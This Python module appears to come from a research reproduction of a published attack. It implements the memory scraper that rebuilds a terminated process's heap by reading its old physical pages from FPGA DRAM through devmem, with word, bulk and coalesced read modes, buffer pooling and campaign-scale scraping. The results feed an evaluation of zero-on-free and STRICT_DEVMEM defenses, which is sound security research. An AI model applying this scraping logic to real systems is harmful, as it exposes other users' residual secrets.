"""Step 3 — data extraction from physical addresses after termination.

"Once the targeted process is terminated or disconnected, the
adversary proceeds to access and read the contents of the previously
derived physical address locations within the FPGA's DRAM" (§III).

The scraper replays the snapshotted translations through ``devmem``.
On the vulnerable kernel the bytes come back exactly as the victim
left them; under the zero-on-free defense the same reads return the
scrub pattern, and under ``STRICT_DEVMEM`` they raise — both outcomes
flow into the defense evaluation.

Three read strategies produce byte-identical dumps at very different
devmem-invocation counts (``AttackConfig`` selects one):

- **word mode** (default) — one invocation per 32-bit word, exactly as
  the paper's automation loops the busybox tool;
- **bulk mode** (``bulk_reads``) — one invocation per page;
- **coalesced mode** (``coalesce_reads``) — physically contiguous
  present pages merge into single bulk reads, the campaign engine's
  hot path for fleet-scale scraping.

Coalesced mode is zero-copy: device bytes land directly in one
``bytearray`` dump buffer (``Devmem.read_bytes_into``), optionally
drawn from a :class:`~repro.utils.buffers.BufferPool` so campaign
waves recycle buffers instead of allocating per victim.  A pooled
dump must be handed back with :meth:`ScrapedDump.release` once its
bytes have been analyzed and spooled; after that, any access to its
``data`` raises :class:`~repro.errors.ExtractionError` instead of
silently reading a recycled buffer.
"""

from __future__ import annotations

import hashlib
import mmap
from dataclasses import dataclass
from typing import TYPE_CHECKING

from repro.attack.addressing import HarvestedRange
from repro.attack.config import AttackConfig
from repro.errors import ExtractionError, PermissionDeniedError
from repro.mmu.paging import PAGE_SIZE
from repro.petalinux.devmem import Devmem
from repro.petalinux.users import User
from repro.utils.bitfield import words_to_bytes
from repro.utils.hexdump import HexDump

if TYPE_CHECKING:
    from repro.utils.buffers import BufferPool

DumpBuffer = bytes | bytearray | mmap.mmap | memoryview
"""Buffer types a :class:`ScrapedDump` may be backed by.  All four
support slicing and the buffer protocol, which carving, identification
and the scan core rely on.  A ``memoryview`` (a spool object's mapped
slice, from :meth:`~repro.campaign.runtime.spool.MappedDump.to_dump`)
lacks ``find``: :class:`~repro.utils.hexdump.HexDump` copies it, and
the ``find``-based profiling helpers take freshly scraped dumps only."""

_ZERO_PAGE = bytes(PAGE_SIZE)


class _ReleasedBuffer:
    """Sentinel behind a released dump: every use raises clearly.

    A released dump's buffer may already be serving another victim's
    extraction, so reading it would silently return someone else's
    bytes — this stand-in turns that bug into an immediate
    :class:`~repro.errors.ExtractionError`.
    """

    def _refuse(self, *args, **kwargs):
        raise ExtractionError(
            "dump buffer was released back to its pool; copy the bytes "
            "(or read them back from the spool by sha256) before release()"
        )

    __len__ = _refuse
    __getitem__ = _refuse
    __iter__ = _refuse
    __bytes__ = _refuse
    find = _refuse
    count = _refuse


@dataclass
class ScrapedDump:
    """The reassembled heap image of a terminated process.

    ``data`` is any :data:`DumpBuffer`: ``bytes`` from the per-page
    strategies, a (possibly pooled) ``bytearray`` from the coalesced
    path, or a read-only ``memoryview`` of a mapping when a dump is
    rehydrated from the campaign spool.  Analysis never copies it
    either way.
    """

    pid: int
    heap_start: int
    data: DumpBuffer
    pages_read: int
    pages_skipped: int
    devmem_reads: int

    def __post_init__(self) -> None:
        self._hexdump: HexDump | None = None
        self._sha256: str | None = None
        self._pool: "BufferPool | None" = None

    @property
    def hexdump(self) -> HexDump:
        """Paper-format hexdump view, built lazily on first access.

        A fleet campaign scrapes far more dumps than it ever renders;
        deferring the :class:`HexDump` (and the byte copy its eager
        construction used to imply) keeps extraction allocation-free
        for victims nothing greps.
        """
        if self._hexdump is None:
            self._hexdump = HexDump(self.data)
        return self._hexdump

    @property
    def sha256(self) -> str:
        """Content digest of the residue — the dump's spool address.

        The campaign runtime files every dump in a content-addressed
        on-disk spool under this digest
        (:class:`repro.campaign.runtime.DumpSpool`), so identical
        residue — e.g. the all-zero dumps a zero-on-free kernel yields
        — is stored once per spool writer.  Computed lazily and cached.
        """
        if self._sha256 is None:
            if self.released:
                raise ExtractionError(
                    "cannot hash a released dump; read sha256 before release()"
                )
            self._sha256 = hashlib.sha256(self.data).hexdigest()
        return self._sha256

    @property
    def released(self) -> bool:
        """Whether :meth:`release` already reclaimed the buffer."""
        return isinstance(self.data, _ReleasedBuffer)

    def release(self) -> None:
        """Detach the dump from its buffer (and return it to the pool).

        The campaign worker calls this once a victim's dump has been
        analyzed and spooled: the bytes live on in the content-
        addressed spool under :attr:`sha256`, and the in-memory buffer
        goes back to the wave's :class:`~repro.utils.buffers.BufferPool`
        for the next victim.  Afterwards any access to :attr:`data`
        raises :class:`~repro.errors.ExtractionError` — never a stale
        view of a recycled buffer.  Idempotent.
        """
        if self.released:
            return
        buffer = self.data
        self.data = _ReleasedBuffer()
        self._hexdump = None
        pool, self._pool = self._pool, None
        if pool is not None and isinstance(buffer, bytearray):
            pool.release(buffer)

    @property
    def nbytes(self) -> int:
        """Dump size in bytes."""
        return len(self.data)

    def virtual_address_of(self, dump_offset: int) -> int:
        """Map a dump offset back to the victim's virtual address."""
        if not 0 <= dump_offset < len(self.data):
            raise ValueError(f"offset {dump_offset} outside dump")
        return self.heap_start + dump_offset


class MemoryScraper:
    """Replays harvested translations through the devmem tool."""

    def __init__(
        self,
        devmem: Devmem,
        caller: User,
        config: AttackConfig | None = None,
        buffer_pool: "BufferPool | None" = None,
    ) -> None:
        self._devmem = devmem
        self._caller = caller
        self._config = config or AttackConfig()
        self._buffer_pool = buffer_pool

    def _read_page(self, physical_address: int) -> tuple[bytes, int]:
        """One page of physical memory; returns (bytes, devmem call count)."""
        if self._config.bulk_reads:
            return (
                self._devmem.read_bytes(physical_address, PAGE_SIZE, self._caller),
                1,
            )
        word_bytes = self._config.word_bits // 8
        words = self._devmem.read_range(
            physical_address, PAGE_SIZE, self._caller, self._config.word_bits
        )
        return words_to_bytes(words, word_bytes), len(words)

    def scrape(self, harvested: HarvestedRange) -> ScrapedDump:
        """Read every snapshotted heap page and reassemble the dump.

        Pages that were non-present at harvest time are filled with
        zeros so dump offsets stay congruent with heap offsets — the
        property the profiled image offset depends on.

        Raises :class:`~repro.errors.ExtractionError` when /dev/mem is
        closed to the attacker (the STRICT_DEVMEM defense).
        """
        try:
            if self._config.coalesce_reads:
                return self._scrape_coalesced(harvested)
            return self._scrape_per_page(harvested)
        except PermissionDeniedError as error:
            raise ExtractionError(
                f"devmem blocked while scraping pid {harvested.pid}: {error}"
            ) from error

    def _scrape_per_page(self, harvested: HarvestedRange) -> ScrapedDump:
        """Word or page granular reads — one translation at a time."""
        chunks: list[bytes] = []
        pages_read = 0
        pages_skipped = 0
        devmem_reads = 0
        for entry in harvested.translations:
            if not entry.present:
                chunks.append(b"\x00" * PAGE_SIZE)
                pages_skipped += 1
                continue
            page_bytes, calls = self._read_page(entry.physical_page_address)
            chunks.append(page_bytes)
            pages_read += 1
            devmem_reads += calls
        return ScrapedDump(
            pid=harvested.pid,
            heap_start=harvested.heap_start,
            data=b"".join(chunks),
            pages_read=pages_read,
            pages_skipped=pages_skipped,
            devmem_reads=devmem_reads,
        )

    def _scrape_coalesced(self, harvested: HarvestedRange) -> ScrapedDump:
        """Merge physically contiguous present pages into bulk reads.

        Walks the translations in heap order, growing a run while each
        present page's physical address extends the previous one, and
        issues a single ``read_bytes_into`` per run — device bytes
        land directly in the dump buffer, so the reassembled dump is
        byte-identical to the per-page paths without any intermediate
        chunk or join copies.  The buffer comes from the scraper's
        :class:`~repro.utils.buffers.BufferPool` when one is attached
        (campaign waves recycle buffers; pooled buffers arrive dirty,
        so skipped pages are explicitly zero-filled) and is a fresh
        pre-zeroed ``bytearray`` otherwise.
        """
        translations = harvested.translations
        total = len(translations) * PAGE_SIZE
        pooled = self._buffer_pool is not None
        buffer = (
            self._buffer_pool.acquire(total) if pooled else bytearray(total)
        )
        view = memoryview(buffer)
        pages_read = 0
        pages_skipped = 0
        devmem_reads = 0
        run_start: int | None = None
        run_first_index = 0
        run_pages = 0

        def flush() -> None:
            nonlocal run_start, run_pages, devmem_reads
            if run_start is None:
                return
            out_start = run_first_index * PAGE_SIZE
            self._devmem.read_bytes_into(
                run_start,
                self._caller,
                view[out_start : out_start + run_pages * PAGE_SIZE],
            )
            devmem_reads += 1
            run_start = None
            run_pages = 0

        try:
            for index, entry in enumerate(translations):
                if not entry.present:
                    flush()
                    if pooled:
                        offset = index * PAGE_SIZE
                        view[offset : offset + PAGE_SIZE] = _ZERO_PAGE
                    pages_skipped += 1
                    continue
                if (
                    run_start is not None
                    and entry.physical_page_address
                    == run_start + run_pages * PAGE_SIZE
                ):
                    run_pages += 1
                else:
                    flush()
                    run_start = entry.physical_page_address
                    run_first_index = index
                    run_pages = 1
                pages_read += 1
            flush()
        except BaseException:
            view.release()
            if pooled:
                self._buffer_pool.release(buffer)
            raise
        view.release()
        dump = ScrapedDump(
            pid=harvested.pid,
            heap_start=harvested.heap_start,
            data=buffer,
            pages_read=pages_read,
            pages_skipped=pages_skipped,
            devmem_reads=devmem_reads,
        )
        if pooled:
            dump._pool = self._buffer_pool
        return dump

    def spot_check(self, harvested: HarvestedRange, virtual_address: int) -> int:
        """Single ``devmem`` read at one heap VA (the Fig. 10 artifact)."""
        physical = harvested.physical_of(virtual_address)
        return self._devmem.read(physical, self._caller, self._config.word_bits)
